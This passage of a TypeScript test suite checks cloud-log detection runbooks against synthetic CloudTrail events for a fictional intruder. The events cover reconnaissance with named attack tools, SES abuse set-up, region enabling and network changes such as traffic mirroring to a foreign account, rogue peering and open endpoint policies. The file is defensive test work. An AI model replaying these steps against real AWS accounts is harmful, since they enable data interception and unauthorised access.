    arn: `arn:aws:sts::123456789012:assumed-role/${name}/${session}`,
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLEROLESESS1",
  });
  const CI = role("ci-deployer", "build-42");
  const APP = role("app-backend", "i-0a1b2c3d4e5f60718");
  const ADVISOR = role("AWSServiceRoleForTrustedAdvisor", "TrustedAdvisor_123456789012_1");
  const CONSOLER = {
    type: "FederatedUser",
    principalId: "123456789012:aws_consoler",
    arn: "arn:aws:sts::123456789012:federated-user/aws_consoler",
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLECONSOLER1",
  };
  const ALICE = { ...MALLORY, arn: "arn:aws:iam::123456789012:user/alice", userName: "alice" };
  const at = (h: number, m: number, s = 0) =>
    `2024-06-01T${h}:${String(m).padStart(2, "0")}:${String(s).padStart(2, "0")}Z`;
  let n = 0;
  /** A call at `time` by `who`; `extra` overrides any key. */
  const call = (
    time: string,
    who: Record<string, unknown>,
    source: string,
    name: string,
    extra: Record<string, unknown> = {},
    params: Record<string, unknown> | null = null,
  ) =>
    crafted(n++ % 60, who, `${source}.amazonaws.com`, name, params, {
      eventTime: time,
      eventID: `00000000-0000-0000-0000-2000000${String(n).padStart(5, "0")}`,
      readOnly: /^(Get|List|Describe)/.test(name),
      userAgent: BOTO,
      ...extra,
    });
  const denied = (source: string) => ({
    errorCode: source === "ec2" ? "Client.UnauthorizedOperation" : "AccessDenied",
    errorMessage: "not authorized",
  });
  /** enumerate-iam's sweep: 36 read actions of 15 services. */
  const SWEEP: [string, string][] = [
    ...["ListUsers", "ListRoles", "ListGroups", "ListPolicies"].map((a) => ["iam", a]),
    ...["GetAccountSummary", "GetAccountPasswordPolicy", "ListAccessKeys", "GetUser"].map((a) => [
      "iam",
      a,
    ]),
    ...["Instances", "Vpcs", "Subnets", "SecurityGroups", "Snapshots", "Images", "KeyPairs"].map(
      (a) => ["ec2", `Describe${a}`],
    ),
    ["ec2", "DescribeRegions"],
    ...["ListBuckets", "GetBucketPolicy", "GetBucketAcl"].map((a) => ["s3", a]),
    ["lambda", "ListFunctions20150331"],
    ["lambda", "GetAccountSettings20160819"],
    ["rds", "DescribeDBInstances"],
    ["rds", "DescribeDBSnapshots"],
    ["dynamodb", "ListTables"],
    ["dynamodb", "DescribeTable"],
    ["sns", "ListTopics"],
    ["sqs", "ListQueues"],
    ["kms", "ListKeys"],
    ["kms", "ListAliases"],
    ["secretsmanager", "ListSecrets"],
    ["sts", "GetCallerIdentity"],
    ["cloudtrail", "DescribeTrails"],
    ["cloudtrail", "GetTrailStatus"],
    ["guardduty", "ListDetectors"],
    ["organizations", "DescribeOrganization"],
    ["ssm", "DescribeParameters"],
  ] as [string, string][];
  const events = [
    // 10:00 to 10:04: the leaked key checked by TruffleHog, then used by ScoutSuite, the AWS CLI
    // on Kali (refused) and Pacu; the console session aws_consoler made from it
    call(at(10, 0), MALLORY, "sts", "GetCallerIdentity", { userAgent: "TruffleHog" }),
    call(at(10, 1), MALLORY, "s3", "ListBuckets", { userAgent: SCOUT }),
    call(at(10, 2), MALLORY, "iam", "ListUsers", { userAgent: KALI, ...denied("iam") }),
    call(at(10, 3), MALLORY, "iam", "GetAccountAuthorizationDetails", { userAgent: PACU }),
    call(at(10, 4), CONSOLER, "ec2", "DescribeInstances", { userAgent: "AWS Internal" }),
    // the application and the pipeline checking who they are: no tool's agent
    call(at(10, 5), APP, "sts", "GetCallerIdentity", { userAgent: "aws-sdk-java/2.25.10" }),
    call(at(10, 6), CI, "sts", "GetCallerIdentity", { userAgent: "aws-cli/2.15.0" }),
    // 11:00 to 11:37: the sweep from boto3, three of four refused, and two more who-am-I's
    ...SWEEP.map(([s, a], i) => call(at(11, i), MALLORY, s, a, i % 4 === 0 ? {} : denied(s), null)),
    call(at(11, 36), MALLORY, "sts", "GetCallerIdentity"),
    call(at(11, 37), MALLORY, "sts", "GetCallerIdentity"),
    // the same hour: the pipeline, the console and CloudFormation read as widely, the
    // application reads its four actions six times: none of them is listed
    ...SWEEP.map(([s, a], i) => call(at(11, i, 10), CI, s, a)),
    ...SWEEP.map(([s, a], i) =>
      call(at(11, i, 20), ALICE, s, a, { userAgent: "aws-internal/3 aws-sdk-java/1.12.124" }),
    ),
    ...SWEEP.map(([s, a], i) =>
      call(at(11, i, 30), CI, s, a, {
        sourceIPAddress: "cloudformation.amazonaws.com",
        userAgent: "cloudformation.amazonaws.com",
      }),
    ),
    ...[0, 1, 2, 3, 4, 5].map((i) =>
      call(
        at(11, i, 40),
        APP,
        ["s3", "s3", "sqs", "sqs", "ses", "sts"][i]!,
        [
          "GetObject",
          "GetObject",
          "GetQueueUrl",
          "GetQueueUrl",
          "GetSendQuota",
          "GetCallerIdentity",
        ][i]!,
      ),
    ),
    // 12:00 to 12:05: SES probed, a sender verified, production access asked for (refused), a
    // domain identity created (SES v2)
    call(at(12, 0), MALLORY, "ses", "GetSendQuota"),
    call(at(12, 1), MALLORY, "ses", "GetAccountSendingEnabled"),
    call(at(12, 2), MALLORY, "ses", "ListIdentities"),
    call(
      at(12, 3),
      MALLORY,
      "ses",
      "VerifyEmailIdentity",
      {},
      {
        emailAddress: "billing@example.net",
      },
    ),
    call(at(12, 4), MALLORY, "ses", "PutAccountDetails", denied("ses"), {
      mailType: "MARKETING",
      websiteURL: "https://example.net",
      productionAccessEnabled: true,
    }),
    call(at(12, 5), MALLORY, "ses", "CreateEmailIdentity", {}, { emailIdentity: "example.net" }),
    // SES v2's sending switched on and its verification status read (sesv2
    // PutAccountSendingAttributes, GetEmailIdentity: the API Reference V2's names)
    call(at(12, 7), MALLORY, "ses", "PutAccountSendingAttributes", {}, { sendingEnabled: true }),
    call(at(12, 8), MALLORY, "ses", "GetEmailIdentity", {}, { emailIdentity: "example.net" }),
    // Trusted Advisor's check (Panther's "should not alert" shape): AWS's own
    call(at(12, 6), ADVISOR, "ses", "GetSendQuota", {
      sourceIPAddress: "trustedadvisor.amazonaws.com",
      userAgent: "trustedadvisor.amazonaws.com",
    }),
    // 13:00 to 13:07: a region switched on and changes made there (one refused, one recorded
    // without readOnly); a read there, a sign-in recorded in another region, KMS used by AWS
    // in another and the pipeline deploying to another: none of those is listed
    call(at(13, 0), MALLORY, "account", "EnableRegion", {}, { RegionName: "ap-southeast-3" }),
    call(
      at(13, 1),
      MALLORY,
      "ec2",
      "ImportKeyPair",
      { awsRegion: "ap-southeast-3" },
      {
        keyName: "backup",
      },
    ),
    call(
      at(13, 2),
      MALLORY,
      "ec2",
      "RunInstances",
      {
        awsRegion: "ap-southeast-3",
        ...denied("ec2"),
      },
      { instanceType: "c5.4xlarge" },
    ),
    call(at(13, 3), MALLORY, "lambda", "CreateFunction20150331", {
      awsRegion: "ap-southeast-3",
      readOnly: undefined,
    }),
    call(at(13, 4), MALLORY, "ec2", "DescribeRegions", { awsRegion: "ap-southeast-3" }),
    call(at(13, 5), ALICE, "signin", "ConsoleLogin", { awsRegion: "us-east-2" }),
    call(at(13, 6), APP, "kms", "Decrypt", {
      awsRegion: "ap-east-1",
      readOnly: true,
      sourceIPAddress: "AWS Internal",
    }),
    call(at(13, 7), CI, "cloudformation", "CreateStack", { awsRegion: "eu-central-1" }),
    // a person's changes in us-east-1: global services' (IAM, Route 53, CloudFront: CloudTrail
    // records them in us-east-1 wherever they are made) and a regional one (EC2)
    call(at(13, 8), ALICE, "iam", "CreateRole", {}, { roleName: "reports" }),
    call(at(13, 9), ALICE, "route53", "ChangeResourceRecordSets", {}, { hostedZoneId: "Z1" }),
    call(at(13, 10), ALICE, "cloudfront", "CreateDistribution2020_05_31"),
    call(at(13, 11), ALICE, "ec2", "CreateSecurityGroup", {}, { groupName: "reports" }),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const run = (extra: string[] = []) => onJune1("runbooks/reconnaissance.md", events, extra);

  it("lists the tools, the sweep, the SES set-up and the region, none of the ordinary", async () => {
    const reports = await run();
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    const once = (t: string) => [1, 0, t, t];
    expect(step(reports, "tool_activity").rows).toEqual([
      [MAL, KEY, "TruffleHog", "GetCallerIdentity", ...once(at(10, 0))],
      [MAL, KEY, SCOUT, "ListBuckets", ...once(at(10, 1))],
      [MAL, KEY, KALI, "ListUsers", 1, 1, at(10, 2), at(10, 2)],
      [MAL, KEY, PACU, "GetAccountAuthorizationDetails", ...once(at(10, 3))],
      [CONSOLER.arn, CONSOLER.accessKeyId, "AWS Internal", "DescribeInstances", ...once(at(10, 4))],
    ]);
    expect(step(reports, "tool_activity_insights").rowCount).toBe(5);
    // 36 actions of 15 services, 38 calls, 27 refused (71 %)
    const services =
      "cloudtrail dynamodb ec2 guardduty iam kms lambda organizations rds s3 secretsmanager sns sqs ssm sts";
    expect(step(reports, "enumeration_bursts").rows).toEqual([
      [MAL, "2024-06-01T11", 36, services, 38, 71],
    ]);
    expect(step(reports, "enumeration_bursts_insights").rows).toEqual([
      [MAL, "2024-06-01 11:00:00.000", 36, 15, 38],
    ]);
    const ses = (name: string, identity: string | null, refused = 0, m = 0) => [
      MAL,
      name,
      "us-east-1",
      identity,
      1,
      refused,
      at(12, m),
      at(12, m),
    ];
    expect(step(reports, "email_sending").rows).toEqual([
      ses("GetSendQuota", null, 0, 0),
      ses("GetAccountSendingEnabled", null, 0, 1),
      ses("ListIdentities", null, 0, 2),
      ses("VerifyEmailIdentity", "billing@example.net", 0, 3),
      ses("PutAccountDetails", null, 1, 4),
      ses("CreateEmailIdentity", "example.net", 0, 5),
      ses("PutAccountSendingAttributes", null, 0, 7),
      ses("GetEmailIdentity", "example.net", 0, 8),
    ]);
    expect(
      step(reports, "email_sending_insights")
        .rows.map((r) => r[1])
        .sort(),
    ).toEqual([
      "CreateEmailIdentity",
      "GetAccountSendingEnabled",
      "GetEmailIdentity",
      "GetSendQuota",
      "ListIdentities",
      "PutAccountDetails",
      "PutAccountSendingAttributes",
      "VerifyEmailIdentity",
    ]);
    const region = (name: string, refused: number, m: number) => [
      MAL,
      "ap-southeast-3",
      name,
      1,
      refused,
      at(13, m),
      at(13, m),
    ];
    expect(step(reports, "region_use").rows).toEqual([
      region("EnableRegion", 0, 0),
      region("ImportKeyPair", 0, 1),
      region("RunInstances", 1, 2),
      region("CreateFunction20150331", 0, 3),
    ]);
    expect(step(reports, "region_use_insights").rows).toEqual([
      [MAL, "ap-southeast-3", "CreateFunction20150331", null, 1],
      [MAL, "ap-southeast-3", "ImportKeyPair", null, 1],
      [MAL, "ap-southeast-3", "RunInstances", null, 1],
      [MAL, "us-east-1", "EnableRegion", "ap-southeast-3", 1],
    ]);
    expectTruth(reports, events, RECONNAISSANCE_STEPS);
  });

  it("moves its verdicts with the parameters", async () => {
    const tuned = await run([
      ...["--param", "tool_agent_pattern=^TruffleHog$"],
      ...["--param", "tool_session_pattern=/nobody$"],
      ...["--param", "max_read_actions_per_hour=3"],
      ...["--param", "sender_pattern=:user/mallory$"],
      ...["--param", "automation_pattern=^$"],
    ]);
    // the agent named exactly: only TruffleHog's check
    expect(step(tuned, "tool_activity").rows.map((r) => r[2])).toEqual(["TruffleHog"]);
    // four actions an hour are now a burst: mallory's first hour, her SES probes and the
    // application's; the pipeline is no automation any more (its reads through CloudFormation
    // stay AWS's)
    expect(step(tuned, "enumeration_bursts").rows.map((r) => [r[0], r[1], r[2]])).toEqual([
      [MAL, "2024-06-01T11", 36],
      [CI.arn, "2024-06-01T11", 36],
      [MAL, "2024-06-01T10", 4],
      [MAL, "2024-06-01T12", 4],
      [APP.arn, "2024-06-01T11", 4],
    ]);
    // mallory is a sender now; the application is not
    expect(step(tuned, "email_sending").rows.map((r) => [r[0], r[1]])).toEqual([
      [APP.arn, "GetSendQuota"],
    ]);
    // the pipeline's stack in eu-central-1 is listed
    expect(step(tuned, "region_use").rows.map((r) => [r[0], r[1], r[2]])).toContainEqual([
      CI.arn,
      "eu-central-1",
      "CreateStack",
    ]);
    expectTruth(tuned, events, RECONNAISSANCE_STEPS);
    // the regions widened and the threshold raised: the region switched on is all that is left
    const quiet = await run([
      ...["--param", "account_regions=^(us|eu|ap)-"],
      ...["--param", "max_read_actions_per_hour=36"],
    ]);
    expect(step(quiet, "enumeration_bursts").status).toBe("passed");
    expect(step(quiet, "enumeration_bursts_insights").status).toBe("passed");
    expect(step(quiet, "region_use").rows.map((r) => r[2])).toEqual(["EnableRegion"]);
    expect(step(quiet, "region_use_insights").rows.map((r) => r[2])).toEqual(["EnableRegion"]);
    expectTruth(quiet, events, RECONNAISSANCE_STEPS);
  });

  it("lists no global service's change when the account does not work in us-east-1", async () => {
    const europe = await run(["--param", "account_regions=^(eu-west-1|ap-southeast-3)$"]);
    // us-east-1's changes are listed now: mallory's SES set-up and alice's security group;
    // alice's role, record set and distribution are global services' (recorded in us-east-1
    // wherever they are made), and the refused read and the reads are no changes
    const inUsEast1 = (id: string, col: number) =>
      step(europe, id)
        .rows.filter((r) => r[1] === "us-east-1")
        .map((r) => `${r[0]} ${r[col]}`)
        .sort();
    const expected = [
      `${ALICE.arn} CreateSecurityGroup`,
      `${MAL} CreateEmailIdentity`,
      `${MAL} PutAccountDetails`,
      `${MAL} PutAccountSendingAttributes`,
      `${MAL} VerifyEmailIdentity`,
    ];
    expect(inUsEast1("region_use", 2)).toEqual(expected);
    // the Logs Insights rows: EnableRegion's is recorded in us-east-1 too
    expect(inUsEast1("region_use_insights", 2)).toEqual(
      [...expected, `${MAL} EnableRegion`].sort(),
    );
    expectTruth(europe, events, RECONNAISSANCE_STEPS);
  });
});

describe("network-paths on VPC shapes the data sets lack", () => {
  /*
   * The shapes: Panther's AWS.EC2.* test records give CloudTrail's spelling of the classic EC2
   * calls (routeTableId, destinationCidrBlock, gatewayId; networkAclId, ruleAction, aclProtocol,
   * portRange) and of the newer ones, whose request is wrapped in a key named after the call
   * with the API's capitalised names (CreateTrafficMirrorSessionRequest.NetworkInterfaceId). The
   * calls they lack take the parameters of the Amazon EC2 API Reference, spelt the same way:
   * CreateTrafficMirrorTarget (NetworkLoadBalancerArn), CreateVpcPeeringConnection (vpcId,
   * peerVpcId, peerOwnerId, peerRegion), AcceptVpcPeeringConnection (its response's
   * vpcPeeringConnection.requesterVpcInfo.ownerId), CreateTransitGatewayVpcAttachment
   * (TransitGatewayId, VpcId, SubnetIds), AcceptTransitGatewayVpcAttachment (its response's
   * transitGatewayVpcAttachment.vpcOwnerId), CreateVpcEndpoint and ModifyVpcEndpoint
   * (PolicyDocument, a JSON text; ResetPolicy), ReplaceRouteTableAssociation (associationId,
   * routeTableId), ReplaceNetworkAclEntry (ipv6CidrBlock).
   */
  const MAL = MALLORY.arn;
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const OTHER = { type: "AWSAccount", principalId: "AIDAOTHER:x", accountId: "999988887777" };
  const ci = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLE:s",
    arn: CI,
    accountId: "123456789012",
  };
  const refused = { errorCode: "Client.UnauthorizedOperation", errorMessage: "not authorized" };
  const GUARDDUTY = {
    type: "AssumedRole",
    principalId: "AROAGUARDDUTY:GuardDuty",
    arn: "arn:aws:sts::123456789012:assumed-role/AWSServiceRoleForAmazonGuardDuty/GuardDuty",
    accountId: "123456789012",
  };
  const call = (
    who: Record<string, unknown>,
    i: number,
    eventName: string,
    requestParameters: Record<string, unknown>,
    extra: Record<string, unknown> = {},
  ) =>
    crafted(i, who, "ec2.amazonaws.com", eventName, requestParameters, {
      readOnly: false,
      ...extra,
    });
  const wrapped = (name: string, r: Record<string, unknown>) => ({ [`${name}Request`]: r });
  const policy = (statement: unknown) =>
    JSON.stringify({ Version: "2008-10-17", Statement: statement });
  const anyone = { Effect: "Allow", Principal: "*", Action: "*", Resource: "*" };
  const FOREIGN_NLB =
    "arn:aws:elasticloadbalancing:us-east-1:999988887777:loadbalancer/net/collector/50dc6c495c0c9188";
  const OWN_NLB =
    "arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/net/ids/50dc6c495c0c9189";
  const nacl = (i: number, who: Record<string, unknown>, r: Record<string, unknown>) =>
    call(who, i, "CreateNetworkAclEntry", {
      networkAclId: "acl-data",
      ruleAction: "allow",
      egress: false,
      icmpTypeCode: {},
      ...r,
    });
  const events = [
    // 0: the pipeline's inspection session (automation); 1: mallory's target on another
    // account's load balancer, 2: a filter, 3: an accept-all rule, 4: a session copying the
    // database's interface, 5: a refused session (listed), 6: a target on the account's own
    // load balancer (listed, no other account), 7: a read (not listed)
    call(
      ci,
      0,
      "CreateTrafficMirrorSession",
      wrapped("CreateTrafficMirrorSession", {
        NetworkInterfaceId: "eni-web",
        TrafficMirrorTargetId: "tmt-ids",
        TrafficMirrorFilterId: "tmf-ids",
        SessionNumber: 1,
      }),
    ),
    call(
      MALLORY,
      1,
      "CreateTrafficMirrorTarget",
      wrapped("CreateTrafficMirrorTarget", { NetworkLoadBalancerArn: FOREIGN_NLB }),
    ),
    call(MALLORY, 2, "CreateTrafficMirrorFilter", wrapped("CreateTrafficMirrorFilter", {})),
    call(
      MALLORY,
      3,
      "CreateTrafficMirrorFilterRule",
      wrapped("CreateTrafficMirrorFilterRule", {
        TrafficMirrorFilterId: "tmf-x",
        TrafficDirection: "ingress",
        RuleNumber: 1,
        RuleAction: "accept",
        SourceCidrBlock: "0.0.0.0/0",
        DestinationCidrBlock: "0.0.0.0/0",
      }),
    ),
    call(
      MALLORY,
      4,
      "CreateTrafficMirrorSession",
      wrapped("CreateTrafficMirrorSession", {
        NetworkInterfaceId: "eni-db",
        TrafficMirrorTargetId: "tmt-x",
        TrafficMirrorFilterId: "tmf-x",
        SessionNumber: 1,
      }),
    ),
    call(
      MALLORY,
      5,
      "CreateTrafficMirrorSession",
      wrapped("CreateTrafficMirrorSession", {
        NetworkInterfaceId: "eni-app",
        TrafficMirrorTargetId: "tmt-x",
        TrafficMirrorFilterId: "tmf-x",
        SessionNumber: 2,
      }),
      refused,
    ),
    call(
      MALLORY,
      6,
      "CreateTrafficMirrorTarget",
      wrapped("CreateTrafficMirrorTarget", { NetworkLoadBalancerArn: OWN_NLB }),
    ),
    call(MALLORY, 7, "DescribeTrafficMirrorSessions", {}, { readOnly: true }),
    // 8: an internet gateway created, 9: attached, 10: an IPv6 default route through it,
    // 11: every address through an instance, 12: a route through a peering, 13: a route to a
    // network of the account's own through a transit gateway (not listed), 14: a subnet moved
    // onto the public route table
    call(
      MALLORY,
      8,
      "CreateInternetGateway",
      {},
      {
        responseElements: { internetGateway: { internetGatewayId: "igw-new" } },
      },
    ),
    call(MALLORY, 9, "AttachInternetGateway", { internetGatewayId: "igw-new", vpcId: "vpc-data" }),
    call(MALLORY, 10, "CreateRoute", {
      routeTableId: "rtb-data",
      destinationIpv6CidrBlock: "::/0",
      gatewayId: "igw-new",
    }),
    call(MALLORY, 11, "ReplaceRoute", {
      routeTableId: "rtb-app",
      destinationCidrBlock: "0.0.0.0/0",
      instanceId: "i-proxy",
    }),
    call(MALLORY, 12, "CreateRoute", {
      routeTableId: "rtb-data",
      destinationCidrBlock: "172.31.0.0/16",
      vpcPeeringConnectionId: "pcx-out",
    }),
    call(MALLORY, 13, "CreateRoute", {
      routeTableId: "rtb-app",
      destinationCidrBlock: "10.50.0.0/16",
      transitGatewayId: "tgw-core",
    }),
    call(MALLORY, 14, "ReplaceRouteTableAssociation", {
      associationId: "rtbassoc-1",
      routeTableId: "rtb-public",
    }),
    // 15: a peering with another account, 16: with another VPC of the account (not listed),
    // 17: with a partner (listed unless partner_accounts says so), 18: another account's
    // peering accepted, 19: a VPC attached to a transit gateway, 20: a partner's attachment
    // accepted, 21: another account's caller accepting a peering, its response not recorded
    call(MALLORY, 15, "CreateVpcPeeringConnection", {
      vpcId: "vpc-data",
      peerVpcId: "vpc-0evil",
      peerOwnerId: "999988887777",
      peerRegion: "eu-west-1",
    }),
    call(MALLORY, 16, "CreateVpcPeeringConnection", { vpcId: "vpc-data", peerVpcId: "vpc-app" }),
    call(MALLORY, 17, "CreateVpcPeeringConnection", {
      vpcId: "vpc-app",
      peerVpcId: "vpc-0partner",
      peerOwnerId: "222233334444",
    }),
    call(
      MALLORY,
      18,
      "AcceptVpcPeeringConnection",
      { vpcPeeringConnectionId: "pcx-in" },
      {
        responseElements: {
          vpcPeeringConnection: {
            vpcPeeringConnectionId: "pcx-in",
            requesterVpcInfo: { ownerId: "999988887777", vpcId: "vpc-0evil" },
            accepterVpcInfo: { ownerId: "123456789012", vpcId: "vpc-data" },
          },
        },
      },
    ),
    call(
      MALLORY,
      19,
      "CreateTransitGatewayVpcAttachment",
      wrapped("CreateTransitGatewayVpcAttachment", {
        TransitGatewayId: "tgw-shared",
        VpcId: "vpc-data",
        SubnetIds: { tag: 1, content: "subnet-1" },
      }),
    ),
    call(
      MALLORY,
      20,
      "AcceptTransitGatewayVpcAttachment",
      wrapped("AcceptTransitGatewayVpcAttachment", { TransitGatewayAttachmentId: "tgw-attach-1" }),
      {
        responseElements: {
          AcceptTransitGatewayVpcAttachmentResponse: {
            transitGatewayVpcAttachment: {
              transitGatewayAttachmentId: "tgw-attach-1",
              vpcOwnerId: "222233334444",
            },
          },
        },
      },
    ),
    call(OTHER, 21, "AcceptVpcPeeringConnection", { vpcPeeringConnectionId: "pcx-in2" }),
    // 22: an S3 endpoint open to anyone, 23: one conditioned on the organization (not listed),
    // 24: a policy reset to full access, 25: one statement given as an object, principal
    // {"AWS": "*"}, 26: an open statement beside a conditioned one (the SQL step's alone),
    // 27: anyone, but only the account's bucket (not listed)
    call(
      MALLORY,
      22,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-data",
        ServiceName: "com.amazonaws.us-east-1.s3",
        VpcEndpointType: "Gateway",
        PolicyDocument: policy([anyone]),
      }),
    ),
    call(
      MALLORY,
      23,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-s3",
        PolicyDocument: policy([
          { ...anyone, Condition: { StringEquals: { "aws:PrincipalOrgID": "o-abc" } } },
        ]),
      }),
    ),
    call(
      MALLORY,
      24,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", { VpcEndpointId: "vpce-s3", ResetPolicy: true }),
    ),
    call(
      MALLORY,
      25,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-ddb",
        PolicyDocument: policy({ ...anyone, Principal: { AWS: "*" }, Resource: ["*"] }),
      }),
    ),
    call(
      MALLORY,
      26,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-logs",
        PolicyDocument: policy([
          anyone,
          { ...anyone, Condition: { Bool: { "aws:SecureTransport": "true" } } },
        ]),
      }),
    ),
    call(
      MALLORY,
      27,
      "ModifyVpcEndpoint",
      wrapped("ModifyVpcEndpoint", {
        VpcEndpointId: "vpce-s3",
        PolicyDocument: policy([{ ...anyone, Resource: "arn:aws:s3:::corp-data/*" }]),
      }),
    ),
    // 28: the pipeline's default route through a NAT (automation), 29: a refused attachment
    call(ci, 28, "CreateRoute", {
      routeTableId: "rtb-private",
      destinationCidrBlock: "0.0.0.0/0",
      natGatewayId: "nat-1",
    }),
    call(
      MALLORY,
      29,
      "AttachInternetGateway",
      { internetGatewayId: "igw-2", vpcId: "vpc-app" },
      refused,
    ),
    // 30: all traffic in from everywhere by the pipeline (step 3 lists everyone), 31: every TCP
    // port out to ::/0, replaced, 32: the ephemeral range in (64512 ports, not listed by
    // default), 33: HTTPS in (not listed), 34: all traffic from a private network (not listed),
    // 35: deny all (not listed)
    nacl(30, ci, { ruleNumber: 1, aclProtocol: "-1", cidrBlock: "0.0.0.0/0", portRange: {} }),
    call(MALLORY, 31, "ReplaceNetworkAclEntry", {
      networkAclId: "acl-data",
      ruleNumber: 90,
      ruleAction: "allow",
      egress: true,
      aclProtocol: "6",
      ipv6CidrBlock: "::/0",
      portRange: { from: 0, to: 65535 },
      icmpTypeCode: {},
    }),
    nacl(32, MALLORY, {
      ruleNumber: 120,
      aclProtocol: "6",
      cidrBlock: "0.0.0.0/0",
      portRange: { from: 1024, to: 65535 },
    }),
    nacl(33, MALLORY, {
      ruleNumber: 130,
      aclProtocol: "6",
      cidrBlock: "0.0.0.0/0",
      portRange: { from: 443, to: 443 },
    }),
    nacl(34, MALLORY, { ruleNumber: 140, aclProtocol: "-1", cidrBlock: "10.0.0.0/8" }),
    call(MALLORY, 35, "CreateNetworkAclEntry", {
      networkAclId: "acl-data",
      ruleNumber: 150,
      ruleAction: "deny",
      egress: false,
      aclProtocol: "-1",
      cidrBlock: "0.0.0.0/0",
    }),
    // 36: every UDP port in as the command line writes it, 1-65535 (port 0 carries nothing)
    nacl(36, MALLORY, {
      ruleNumber: 160,
      aclProtocol: "17",
      cidrBlock: "0.0.0.0/0",
      portRange: { from: 1, to: 65535 },
    }),
    // 37, 38: every IPv4 address in two halves through the new gateway, 39: every public IPv6
    // address (2000::/3) out through an egress-only gateway, 40: the private 172.16.0.0/12
    // through a transit gateway (not listed)
    call(MALLORY, 37, "CreateRoute", {
      routeTableId: "rtb-data",
      destinationCidrBlock: "0.0.0.0/1",
      gatewayId: "igw-new",
    }),
    call(MALLORY, 38, "ReplaceRoute", {
      routeTableId: "rtb-data",
      destinationCidrBlock: "128.0.0.0/1",
      gatewayId: "igw-new",
    }),
    call(MALLORY, 39, "CreateRoute", {
      routeTableId: "rtb-app",
      destinationIpv6CidrBlock: "2000::/3",
      egressOnlyInternetGatewayId: "eigw-1",
    }),
    call(MALLORY, 40, "CreateRoute", {
      routeTableId: "rtb-app",
      destinationCidrBlock: "172.16.0.0/12",
      transitGatewayId: "tgw-core",
    }),
    // 41: an interface endpoint to another account's PrivateLink service, 42: an S3 endpoint
    // with no policy (the default: full access), 43: one kept to the organization (not listed)
    call(
      MALLORY,
      41,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-data",
        ServiceName: "com.amazonaws.vpce.us-east-1.vpce-svc-0e5e000000000c011",
        VpcEndpointType: "Interface",
        SubnetId: { tag: 1, content: "subnet-1" },
        PrivateDnsEnabled: false,
      }),
    ),
    call(
      MALLORY,
      42,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-data",
        ServiceName: "com.amazonaws.us-east-1.s3",
        VpcEndpointType: "Gateway",
        RouteTableId: { tag: 1, content: "rtb-data" },
      }),
    ),
    call(
      MALLORY,
      43,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-app",
        ServiceName: "com.amazonaws.us-east-1.s3",
        VpcEndpointType: "Gateway",
        PolicyDocument: policy([
          { ...anyone, Condition: { StringEquals: { "aws:ResourceOrgID": "o-abc" } } },
        ]),
      }),
    ),
    // ways in: 44: a VPN connection, 45: a Client VPN endpoint, 46: an EC2 Instance Connect
    // endpoint, 47: another account let connect to an endpoint service, 48: a transit gateway
    // peered with another account's, 49: the pipeline's Client VPN endpoint (not listed)
    call(MALLORY, 44, "CreateVpnConnection", {
      type: "ipsec.1",
      customerGatewayId: "cgw-evil",
      vpnGatewayId: "vgw-data",
      options: { staticRoutesOnly: true },
    }),
    call(
      MALLORY,
      45,
      "CreateClientVpnEndpoint",
      wrapped("CreateClientVpnEndpoint", {
        ClientCidrBlock: "172.20.0.0/22",
        ServerCertificateArn: "arn:aws:acm:us-east-1:123456789012:certificate/evil",
        VpcId: "vpc-data",
      }),
    ),
    call(
      MALLORY,
      46,
      "CreateInstanceConnectEndpoint",
      wrapped("CreateInstanceConnectEndpoint", { SubnetId: "subnet-db", PreserveClientIp: false }),
    ),
    call(
      MALLORY,
      47,
      "ModifyVpcEndpointServicePermissions",
      wrapped("ModifyVpcEndpointServicePermissions", {
        ServiceId: "vpce-svc-orders",
        AddAllowedPrincipals: { tag: 1, content: "arn:aws:iam::999988887777:root" },
      }),
    ),
    call(
      MALLORY,
      48,
      "CreateTransitGatewayPeeringAttachment",
      wrapped("CreateTransitGatewayPeeringAttachment", {
        TransitGatewayId: "tgw-core",
        PeerTransitGatewayId: "tgw-0evil",
        PeerAccountId: "999988887777",
        PeerRegion: "eu-west-1",
      }),
    ),
    call(
      ci,
      49,
      "CreateClientVpnEndpoint",
      wrapped("CreateClientVpnEndpoint", { ClientCidrBlock: "172.21.0.0/22", VpcId: "vpc-app" }),
    ),
    // 52: every address sent through a Gateway Load Balancer endpoint (an appliance's, maybe
    // the intruder's)
    call(MALLORY, 52, "ReplaceRoute", {
      routeTableId: "rtb-app",
      destinationCidrBlock: "0.0.0.0/0",
      vpcEndpointId: "vpce-gwlb",
    }),
    // 53: a route to a customer-managed prefix list through the internet gateway
    call(MALLORY, 53, "CreateRoute", {
      routeTableId: "rtb-data",
      destinationPrefixListId: "pl-0evil",
      gatewayId: "igw-new",
    }),
    // 54: the data subnet moved onto the VPC's default ACL, 55: an entry deleted, 56: the
    // pipeline deleting one (not listed)
    call(MALLORY, 54, "ReplaceNetworkAclAssociation", {
      associationId: "aclassoc-data",
      networkAclId: "acl-default",
    }),
    call(MALLORY, 55, "DeleteNetworkAclEntry", {
      networkAclId: "acl-data",
      ruleNumber: 150,
      egress: false,
    }),
    call(ci, 56, "DeleteNetworkAclEntry", {
      networkAclId: "acl-pub",
      ruleNumber: 100,
      egress: true,
    }),
    // 57: GuardDuty's documented endpoint policy, everything allowed but to other accounts'
    // principals (not listed)
    call(
      MALLORY,
      57,
      "CreateVpcEndpoint",
      wrapped("CreateVpcEndpoint", {
        VpcId: "vpc-app",
        ServiceName: "com.amazonaws.us-east-1.guardduty-data",
        VpcEndpointType: "Interface",
